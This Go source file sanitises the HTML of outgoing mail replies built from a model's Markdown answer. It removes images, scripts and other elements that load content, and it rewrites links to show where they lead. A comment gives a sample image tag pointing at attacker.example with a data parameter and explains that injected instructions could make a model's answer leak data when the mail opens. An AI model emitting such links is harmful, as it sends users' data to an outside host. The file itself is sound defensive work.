package mailtext

import (
	"net/url"
	"strings"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// LinkRel is the rel of every link in a reply's HTML.
const LinkRel = "noopener noreferrer nofollow"

// NoRemoteContent rewrites the HTML part of an outgoing reply (the answer's
// Markdown rendered to HTML) so that opening it loads nothing: an answer may
// carry text planted in a document or written by a model following injected
// instructions, and ![x](https://attacker.example/?data=…) rendered as an
// <img> would send data to that host as soon as the mail is displayed (an
// exfiltration channel; see docs/mail.md, "Remote content"). The rules:
//
//   - no <img> at all: an image with an http(s) src becomes a link
//     "🖼 alt (host)" the reader may choose to open (plain text inside
//     another link); any other image (data:, cid:, …) becomes its text
//     "🖼 alt";
//   - a link keeps only href, gets rel="noopener noreferrer nofollow",
//     target="_blank" and title (the full URL), and shows its destination
//     after its text — " (host)", or " (address)" for mailto: — unless the
//     text already names it (a URL or host name with that very host);
//   - a link to anything but an absolute http(s) or mailto: URL
//     (javascript:, vbscript:, data:, a relative URL, goldmark's empty href
//     for a dangerous one) is replaced by its text;
//   - elements that load or run something (script, style, link, iframe,
//     object, embed, audio, video, source, svg, form, …) are removed, and so
//     are style, background, srcset, poster, ping and on* attributes.
//
// src is a complete document or a fragment (then it is wrapped in
// <html><head></head><body>); the result is a complete document.
func NoRemoteContent(src string) (string, error) {
	doc, err := html.Parse(strings.NewReader(src))
	if err != nil {
		return "", err
	}
	rewrite(doc)
	var b strings.Builder
	if err := html.Render(&b, doc); err != nil {
		return "", err
	}
	return b.String(), nil
}

// loads reports an element that fetches or runs something, or could be made to.
func loads(a atom.Atom) bool {
	switch a {
	case atom.Script, atom.Style, atom.Link, atom.Iframe, atom.Frame, atom.Frameset, atom.Object, atom.Embed,
		atom.Applet, atom.Audio, atom.Video, atom.Source, atom.Track, atom.Svg, atom.Math, atom.Form, atom.Input,
		atom.Button, atom.Base:
		return true
	}
	return false
}

// droppedAttr reports an attribute that can load something or run script.
func droppedAttr(key string) bool {
	switch key {
	case "style", "background", "srcset", "poster", "ping", "formaction", "lowsrc", "dynsrc", "action", "xmlns":
		return true
	}
	return strings.HasPrefix(key, "on")
}

func rewrite(n *html.Node) {
	for c := n.FirstChild; c != nil; {
		next := c.NextSibling
		rewriteNode(c)
		c = next
	}
}

func rewriteNode(n *html.Node) {
	if n.Type != html.ElementNode {
		return
	}
	switch {
	case loads(n.DataAtom), n.DataAtom == atom.Meta && attr(n, "http-equiv") != "": // a refresh
		n.Parent.RemoveChild(n)
	case n.DataAtom == atom.Img:
		replace(n, image(n))
	case n.DataAtom == atom.A:
		link(n)
	default:
		keepAttrs(n, func(key string) bool { return !droppedAttr(key) })
		rewrite(n)
	}
}

func keepAttrs(n *html.Node, keep func(key string) bool) {
	out := n.Attr[:0]
	for _, a := range n.Attr {
		if a.Namespace == "" && keep(a.Key) {
			out = append(out, a)
		}
	}
	n.Attr = out
}

// replace puts nodes where n is.
func replace(n *html.Node, nodes ...*html.Node) {
	for _, r := range nodes {
		n.Parent.InsertBefore(r, n)
	}
	n.Parent.RemoveChild(n)
}

func textNode(s string) *html.Node { return &html.Node{Type: html.TextNode, Data: s} }

// target is where a link may lead: its absolute URL and the destination shown
// with it (the host, or the mailto address); ok is false for anything but an
// absolute http(s) or mailto: URL.
func target(raw string) (href, destination string, ok bool) {
	u, err := url.Parse(strings.TrimSpace(raw))
	if err != nil {
		return "", "", false
	}
	switch strings.ToLower(u.Scheme) {
	case "http", "https":
		if u.Host == "" {
			return "", "", false
		}
		return u.String(), strings.ToLower(u.Host), true
	case "mailto":
		addr := u.Opaque
		if addr == "" {
			addr = u.Path
		}
		if a, err := url.PathUnescape(addr); err == nil {
			addr = a
		}
		if i := strings.IndexByte(addr, '?'); i >= 0 {
			addr = addr[:i]
		}
		if strings.TrimSpace(addr) == "" {
			return "", "", false
		}
		return u.String(), addr, true
	}
	return "", "", false
}

// textShowsDestination reports whether a link's text already names where it
// leads: a URL or bare host name with that very host, or the mailto address.
// "click here", or "https://bank.example" linking to evil.example, do not.
func textShowsDestination(text, href, destination string) bool {
	t := strings.ToLower(strings.TrimSpace(text))
	d := strings.ToLower(destination)
	if t == "" || strings.ContainsFunc(t, func(r rune) bool { return r == ' ' || r == '\t' || r == '\n' || r == '\r' }) {
		return false
	}
	if strings.HasPrefix(strings.ToLower(href), "mailto:") {
		return t == d || t == "mailto:"+d
	}
	if !strings.Contains(t, "://") {
		t = "https://" + t
	}
	u, err := url.Parse(t)
	return err == nil && (u.Scheme == "http" || u.Scheme == "https") && u.Host == d
}

func textContent(n *html.Node) string {
	if n.Type == html.TextNode {
		return n.Data
	}
	var b strings.Builder
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		b.WriteString(textContent(c))
	}
	return b.String()
}

func insideLink(n *html.Node) bool {
	for p := n.Parent; p != nil; p = p.Parent {
		if p.Type == html.ElementNode && p.DataAtom == atom.A {
			return true
		}
	}
	return false
}

// link rewrites an <a> (see NoRemoteContent), or replaces it by its content.
func link(a *html.Node) {
	href, dest, ok := target(attr(a, "href"))
	if !ok {
		// Its content stays, rewritten, where the link was.
		var kids []*html.Node
		for c := a.FirstChild; c != nil; c = c.NextSibling {
			kids = append(kids, c)
		}
		for _, c := range kids {
			a.RemoveChild(c)
		}
		replace(a, kids...)
		for _, c := range kids {
			rewriteNode(c)
		}
		return
	}
	text := textContent(a) // before images inside become text
	a.Attr = []html.Attribute{{Key: "href", Val: href}, {Key: "rel", Val: LinkRel}, {Key: "target", Val: "_blank"}, {Key: "title", Val: href}}
	rewrite(a)
	if !textShowsDestination(text, href, dest) {
		a.AppendChild(textNode(" (" + dest + ")"))
	}
}

// image is what stands for an <img>: a link "🖼 alt (host)" to an http(s)
// src (text inside another link), else the text "🖼 alt".
func image(img *html.Node) *html.Node {
	alt := strings.TrimSpace(attr(img, "alt"))
	if alt == "" {
		alt = "image"
	}
	href, dest, ok := target(attr(img, "src"))
	if !ok || strings.HasPrefix(href, "mailto:") {
		return textNode("🖼 " + alt)
	}
	label := "🖼 " + alt + " (" + dest + ")"
	if insideLink(img) {
		return textNode(label)
	}
	a := &html.Node{Type: html.ElementNode, Data: "a", DataAtom: atom.A, Attr: []html.Attribute{
		{Key: "href", Val: href}, {Key: "rel", Val: LinkRel}, {Key: "target", Val: "_blank"},
		{Key: "title", Val: "Image not loaded: " + href},
	}}
	a.AppendChild(textNode(label))
	return a
}
